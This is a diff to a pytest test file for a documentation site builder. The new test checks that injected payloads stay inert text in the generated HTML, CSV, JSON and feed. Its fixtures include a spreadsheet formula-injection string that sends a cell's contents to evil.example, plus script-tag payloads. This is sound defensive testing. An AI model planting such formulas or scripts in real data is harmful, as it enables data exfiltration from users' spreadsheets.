@@ -8,13 +8,16 @@ editor's files.
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import json
 import os
 import re
 import time
 from dataclasses import dataclass
 from html.parser import HTMLParser
 from pathlib import Path
+from xml.etree import ElementTree
 
 import pytest
 import yaml
@@ -346,6 +349,7 @@ def active_content(html: str) -> list[str]:
     return found
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 HOSTILE_BODY = """Intro paragraph.
 
 <script>alert('body script')</script>
@@ -373,6 +377,7 @@ def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path,
         {
             "payload-fields.md": accepted.replace("Body.", HOSTILE_BODY),
             "crlf-bom.md": "\ufeff" + GOOD.format(extra="related: [payload-fields]\n").replace("\n", "\r\n"),
+            "formula.md": GOOD.replace("title: A record", f"title: {_yaml(FORMULA)}").format(extra="organization: '@SUM(1+1)'\n"),
         },
     )
     before = digest(project / "docs")
@@ -395,7 +400,10 @@ def test_payloads_render_as_text_and_nothing_runs(hostile_build: tuple[Path, Pat
     assert "<b>bold</b>" not in page
     # The body policy: tables and <abbr> stay, everything active goes.
     assert '<abbr title="Immigration and Customs Enforcement">ICE</abbr>' in page
-    assert "tracker.example" not in page and "evil.example" not in page
+    parser = Elements()
+    parser.feed(page)
+    addresses = [v for _, attrs in parser.tags for v in attrs.values() if v]
+    assert not [a for a in addresses if "tracker.example" in a or "evil.example" in a]  # the iframe, form and pixel are gone
     assert 'href="https://example.org/" rel="noopener noreferrer"' in page
     for path in site.rglob("*.html"):
         assert active_content(path.read_text(encoding="utf-8")) == [], path
@@ -441,3 +449,16 @@ def test_link_in_docs_leading_outside_fails_the_build(tmp_path: Path) -> None:
     assert "docs/files/report.pdf:1: file: is a link to a file outside the docs folder (replace the link with a copy of the file itself)" in result.stderr
     assert "docs/files/folder:1: file: is a link" in result.stderr
     assert not site.exists()
+
+
+def test_open_data_and_feed_carry_payloads_as_inert_text(hostile_build: tuple[Path, Path, dict[str, str], dict[str, str], str]) -> None:
+    """Spreadsheets do not run the cells of records.csv; the feed and JSON carry the text as text."""
+    _, site, *_ = hostile_build
+    rows = {row["id"]: row for row in csv.DictReader((site / "records.csv").read_text(encoding="utf-8-sig").splitlines())}
+    assert rows["formula"]["title"] == "'" + FORMULA and rows["formula"]["organization"] == "'@SUM(1+1)"
+    assert rows["payload-fields"]["title"] == PAYLOAD
+    data = {r["id"]: r for r in json.loads((site / "records.json").read_text(encoding="utf-8"))}
+    assert data["formula"]["title"] == FORMULA and data["payload-fields"]["title"] == PAYLOAD
+    feed = ElementTree.parse(site / "feed.xml")  # well-formed despite the markup in the records
+    titles = [t.text for t in feed.iter("{http://www.w3.org/2005/Atom}title")]
+    assert PAYLOAD in titles and FORMULA in titles
